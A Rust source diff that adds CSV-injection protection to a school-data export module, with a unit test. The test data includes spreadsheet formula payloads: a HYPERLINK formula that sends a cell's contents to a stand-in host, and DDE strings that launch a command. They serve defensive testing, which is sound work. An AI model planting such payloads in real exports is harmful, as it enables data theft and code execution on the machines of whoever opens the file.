@@ -1,8 +1,39 @@
 //! Cell text in and out: numbers, flags, dates and grades as bureaus write
 //! them, and as edugov writes them back so that an export re-imports.
 
+use std::borrow::Cow;
+
 use chrono::{Datelike, NaiveDate};
 use registry::Grade;
+
+/// A cell as every CSV edugov writes must hold it (exports, error reports,
+/// indicator tables): text that a spreadsheet would run as a formula gets a
+/// leading `'`, OWASP's rule against CSV injection. A cell is neutralised
+/// when it starts with `=`, `+`, `-`, `@`, a tab or a carriage return (and,
+/// as a precaution, the full-width `＝＋－＠` a Chinese input method types) —
+/// unless it is a plain number: `-0.5` (a change) or `-3` (a gap) stays a
+/// number, since a number is not a formula. `.xlsx` files need none of this:
+/// their cells are written as strings, never as formulas.
+pub fn csv_safe(text: &str) -> Cow<'_, str> {
+    let Some(first) = text.chars().next() else {
+        return Cow::Borrowed(text);
+    };
+    let triggers = matches!(
+        first,
+        '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}'
+    );
+    if !triggers || is_plain_number(text) {
+        return Cow::Borrowed(text);
+    }
+    Cow::Owned(format!("'{text}"))
+}
+
+/// `-0.5`, `+3`, `-1.2e3`: a finite decimal number and nothing else.
+fn is_plain_number(text: &str) -> bool {
+    text.bytes()
+        .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
+        && text.parse::<f64>().is_ok_and(f64::is_finite)
+}
 
 /// `小班`, `一年级`, `高二`: the names a teacher would write (and
 /// `Grade::parse` reads back).
@@ -137,6 +168,34 @@ pub(crate) fn looks_scientific(text: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formula_like_text_is_neutralised_for_csv_and_numbers_are_not() {
+        for (text, safe) in [
+            (
+                r#"=HYPERLINK("http://x.example/?"&A1,"y")"#,
+                r#"'=HYPERLINK("http://x.example/?"&A1,"y")"#,
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("＝1+1", "'＝1+1"),
+            ("-", "'-"),
+            ("-inf", "'-inf"),
+            ("-1+1", "'-1+1"),
+            ("-0.5", "-0.5"),
+            ("-3", "-3"),
+            ("+12.5", "+12.5"),
+            ("-1.2e3", "-1.2e3"),
+            ("张三", "张三"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_safe(text), safe, "{text:?}");
+        }
+    }
 
     fn date(text: &str) -> String {
         match parse_date(text) {
